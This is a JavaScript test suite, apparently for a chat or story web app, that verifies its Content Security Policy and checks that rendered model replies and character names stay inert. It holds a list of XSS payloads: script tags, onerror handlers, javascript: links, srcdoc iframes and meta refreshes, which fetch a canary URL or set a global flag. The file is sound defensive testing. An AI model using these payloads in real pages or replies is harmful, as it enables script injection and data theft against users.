// The policy of the built page, and what it and the renderer make of hostile text.

import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { readdir } from 'node:fs/promises';
import test from 'node:test';

import { dist, read, stage } from '../support/browser.mjs';
import { eventually } from '../support/page.mjs';

const at = stage();

const DIRECTIVES = {
  'default-src': ["'none'"],
  'style-src': ["'self'"],
  'img-src': ["'self'", 'blob:', 'data:'],
  'media-src': ["'self'", 'blob:'],
  'font-src': ["'self'"],
  'connect-src': ["'self'", 'https:', 'http:'],
  'frame-src': ["'self'"],
  'worker-src': ["'self'"],
  'manifest-src': ["'self'"],
  'object-src': ["'none'"],
  'base-uri': ["'none'"],
  'form-action': ["'none'"],
};

const hash = (script) => `'sha256-${createHash('sha256').update(script).digest('base64')}'`;

test('the policy stands in every page of the build', async (t) => {
  const pages = (await readdir(dist())).filter((name) => name.endsWith('.html') && name !== 'frame.html');
  assert.ok(pages.includes('index.html'));
  for (const name of pages) await t.test(name, () => checkPolicy(name));
});

async function checkPolicy(name) {
  const html = await read(name);
  const head = html.slice(html.search(/<head[^>]*>/i));
  const first = /<(?!head|!--)[a-z][^>]*>/i.exec(head)[0];
  assert.match(first, /^<meta[^>]+http-equiv=["']?content-security-policy["']?/i, 'it stands first in the head');
  const content = /content="([^"]+)"/.exec(first)[1].replaceAll('&#39;', "'").replaceAll('&apos;', "'");
  const policy = Object.fromEntries(
    content.split(';').map((part) => part.trim().split(/\s+/)).filter(([key]) => key).map(([key, ...values]) => [key, values]),
  );
  const { 'script-src': scripts, ...others } = policy;
  for (const [directive, values] of Object.entries(DIRECTIVES)) {
    assert.deepEqual([...(others[directive] ?? [])].sort(), [...values].sort(), directive);
  }
  assert.deepEqual(Object.keys(others).sort(), Object.keys(DIRECTIVES).sort(), 'no directive beyond the design');

  const inline = [...html.matchAll(/<script\b([^>]*)>([^]*?)<\/script>/gi)].filter(([, attributes]) => !/\bsrc=/.test(attributes));
  const hashes = inline.map(([, , script]) => hash(script));
  assert.deepEqual([...scripts].sort(), ["'self'", "'wasm-unsafe-eval'", ...new Set(hashes)].sort(), 'script-src');
  assert.doesNotMatch(html, /'unsafe-inline'|'unsafe-eval'/);
  assert.doesNotMatch(html.replace(/<script\b[^]*?<\/script>/gi, ''), /\son[a-z]+=|\sstyle=|<style/i, 'no inline handlers or styles');
  assert.doesNotMatch(html, /(src|href)=["']https?:/i, 'nothing from elsewhere');
}

test('hostile replies run nothing, fetch nothing and leave nothing in the page', async (t) => {
  const llm = await at.provider(t);
  const canary = await at.provider(t);
  const app = await at.open(t);
  const url = `${canary.origin}/canary`;
  await app.begin(llm, { character: { name: '林夕', first_mes: '门上的铃响了。' } });

  const attacks = [
    `<script>fetch('${url}/script')</script>`,
    `<script src="${url}/src.js"></script>`,
    `<img src="${url}/img.png" onerror="fetch('${url}/onerror')">`,
    `<img src=x onerror=fetch('${url}/broken')>`,
    `![picture](${url}/markdown.png)`,
    `![reference][r]\n\n[r]: ${url}/reference.png`,
    `<svg onload="fetch('${url}/svg')"><image href="${url}/svg.png"/></svg>`,
    `<meta http-equiv="refresh" content="0;url=${url}/refresh">`,
    `<iframe src="${url}/frame"></iframe><iframe srcdoc="<script>parent.hacked=1</script>"></iframe>`,
    `<object data="${url}/object"></object><embed src="${url}/embed">`,
    `<link rel="stylesheet" href="${url}/style.css"><style>body{background:url(${url}/css)}</style>`,
    `<link rel="prefetch" href="${url}/prefetch"><link rel="dns-prefetch" href="${url}">`,
    `<base href="${url}/">`,
    `<form action="${url}/form"><button autofocus>click</button></form>`,
    `<video src="${url}/video" autoplay></video><audio src="${url}/audio" autoplay></audio>`,
    `<div style="background-image:url(${url}/style)" onclick="hacked=1" onmouseover="hacked=1">hover</div>`,
    `<details open ontoggle="fetch('${url}/toggle')">x</details>`,
    '[click](javascript:window.hacked=1) [data](data:text/html,<script>hacked=1</script>) [vb](vbscript:hacked)',
    '[tab](jav\tascript:window.hacked=1) <javascript:window.hacked=1> [case](JaVaScRiPt:window.hacked=1)',
    '<a href="javascript:window.hacked=1">click</a><a href="&#106;avascript:window.hacked=1">click</a>',
    `</div></main></body><script>fetch('${url}/escape')</script>`,
    `<template><script>fetch('${url}/template')</script></template><noscript><img src="${url}/noscript"></noscript>`,
  ];
  const attack = attacks.join('\n\n');
  llm.script({ text: attack, cutEvery: 11 }, { text: attack, reasoning: attack });
  const first = await app.play(attack);
  const second = await app.play('再来一次');
  await app.turn(second).id('turn-reasoning').click();

  for (const number of [first, second]) {
    const { root } = app.turn(number);
    const forbidden = 'script, img, svg image, iframe, object, embed, link, style, meta, base, form, video, audio, template, noscript';
    const inside = (place) => place.locator(forbidden).evaluateAll((all) => all.map((element) => element.outerHTML));
    assert.deepEqual(await inside(app.turn(number).reply), [], 'in the reply');
    assert.deepEqual(await inside(app.turn(number).user), [], 'in the words of the reader');
    const attributes = await root.locator('*').evaluateAll((all) =>
      all.flatMap((element) => [...element.attributes].map(({ name, value }) => `${name}=${value}`)),
    );
    assert.deepEqual(attributes.filter((attribute) => /^on|^style=|^srcdoc=/.test(attribute)), []);
    assert.deepEqual(attributes.filter((attribute) => /^(href|src|action)=(?!https?:|#|blob:|mailto:)/i.test(attribute)), []);
    for (const link of await app.turn(number).reply.locator('a').all()) {
      const href = await link.evaluate((anchor) => anchor.href);
      if (!/^https?:/.test(href)) await link.click();
      else assert.match((await link.getAttribute('rel')) ?? '', /noopener|noreferrer/, `${href} leads out without looking back`);
    }
  }
  const text = await app.replyText(first);
  for (const words of ['click', 'hover', 'picture']) assert.ok(text.includes(words), `no text is lost: ${words}`);

  await app.reload();
  await eventually(async () => assert.ok((await app.replyText(first)).includes('click')));
  assert.equal(await app.page.evaluate(() => globalThis.hacked), undefined);
  assert.deepEqual(canary.canary, [], 'nothing was fetched');
  assert.ok(app.page.url().startsWith(at.url), 'the page is where it was');
});

test('hostile names and cards are text as well', async (t) => {
  const canary = await at.provider(t);
  const app = await at.open(t);
  const evil = `<img src=${canary.origin}/canary onerror=hacked=1>`;
  await app.createCharacter({ name: `甲${evil}`, description: evil, first_mes: `开场 ${evil}` });
  await app.createBackground({ name: `乙${evil}`, world: evil });
  await app.createStoryline({ title: `丙${evil}`, character: `甲${evil}`, background: `乙${evil}` });
  for (const place of ['storylines', 'characters', 'backgrounds']) {
    await app.go(place);
    assert.equal(await app.page.locator('img[onerror], [onerror]').count(), 0);
  }
  assert.equal(await app.page.evaluate(() => globalThis.hacked), undefined);
  assert.deepEqual(canary.canary, []);
});

test('once a story is open, the page can reach its providers and nobody else', async (t) => {
  const llm = await at.provider(t);
  const other = await at.provider(t);
  const app = await at.open(t, { allow: [/Content Security Policy/, /Failed to load resource/] });
  await app.begin(llm, { character: { name: '林夕', first_mes: '门上的铃响了。' } });
  const reach = (url) => app.page.evaluate((address) => fetch(address).then(() => true, () => false), url);
  await app.reload();
  assert.equal(await reach(`${llm.origin}/canary`), true, 'its provider');
  assert.equal(await reach(`${other.origin}/canary`), false, 'another server');
  assert.deepEqual(other.canary, []);
});
